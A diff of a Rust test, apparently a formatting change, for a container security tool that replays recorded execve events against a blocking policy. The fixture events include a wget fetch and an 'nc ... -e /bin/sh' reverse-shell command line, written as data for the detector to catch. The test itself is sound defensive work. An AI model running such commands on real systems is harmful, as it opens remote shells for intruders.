@@ -158,13 +158,28 @@ fn policy_test_replays_recorded_events() {
     let events = dir.path().join("events.jsonl");
     let container = r#""container.id":"2e8bdd302d6f","container.full_id":"2e8bdd302d6f3109f54b92f320cfa00a76d6653727e89863aa6329a9cdbbea02","container.name":"web","container.type":"podman","container.image":"localhost/web:1""#;
     let lines = [
-        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":7,"proc.name":"wget","proc.exepath":"/bin/wget","proc.args":"-q http://x/",{container}}}}}"#),
-        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":8,"proc.name":"nc","proc.exepath":"/bin/nc","proc.args":"10.0.0.9 4444 -e /bin/sh",{container}}}}}"#),
-        format!(r#"{{"output_fields":{{"evt.type":"execve","proc.pid":9,"proc.name":"ls","proc.exepath":"/bin/ls","proc.args":"/",{container}}}}}"#),
+        format!(
+            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":7,"proc.name":"wget","proc.exepath":"/bin/wget","proc.args":"-q http://x/",{container}}}}}"#
+        ),
+        format!(
+            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":8,"proc.name":"nc","proc.exepath":"/bin/nc","proc.args":"10.0.0.9 4444 -e /bin/sh",{container}}}}}"#
+        ),
+        format!(
+            r#"{{"output_fields":{{"evt.type":"execve","proc.pid":9,"proc.name":"ls","proc.exepath":"/bin/ls","proc.args":"/",{container}}}}}"#
+        ),
         "not json".to_string(),
     ];
     std::fs::write(&events, lines.join("\n")).expect("write");
-    let o = lancet(&["policy", "test", "--policy", policy.to_str().expect("utf8"), "--events", events.to_str().expect("utf8"), "--mode", "protect"]);
+    let o = lancet(&[
+        "policy",
+        "test",
+        "--policy",
+        policy.to_str().expect("utf8"),
+        "--events",
+        events.to_str().expect("utf8"),
+        "--mode",
+        "protect",
+    ]);
     assert!(o.status.success(), "{}", stderr(&o));
     let out = String::from_utf8_lossy(&o.stdout);
     assert!(out.lines().any(|l| l.contains(":1: no wget") && l.contains("would block")), "{out}");
